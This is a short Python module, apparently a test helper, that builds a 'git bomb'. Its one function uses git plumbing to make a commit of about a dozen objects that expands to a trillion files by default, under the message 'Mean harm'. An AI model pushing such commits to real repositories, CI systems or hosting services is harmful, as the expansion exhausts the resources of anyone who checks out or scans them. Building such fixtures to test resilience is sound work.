"""Commits that are pushed in no time and hold any number of files."""

import subprocess
from pathlib import Path


def bomb(repository: Path, *, width: int = 10, levels: int = 12, at: str = "", parent: str = "HEAD") -> str:
    """A commit on `parent` with `width` ** `levels` files below `at`, which are few objects to git."""

    def git(*arguments: str, given: str = "") -> str:
        done = subprocess.run(
            ["git", *arguments], cwd=repository, input=given, capture_output=True, check=True, text=True
        )
        return done.stdout.strip()

    held, kind = git("hash-object", "-w", "--stdin", given="a: 1\n"), "100644 blob"
    for _ in range(levels):
        held = git("mktree", given="".join(f"{kind} {held}\t{number}.yaml\n" for number in range(width)))
        kind = "040000 tree"
    for name in reversed(at.split("/") if at else []):
        held = git("mktree", given=f"040000 tree {held}\t{name}\n")
    return git("commit-tree", "-p", parent, "-m", "Mean harm", held)
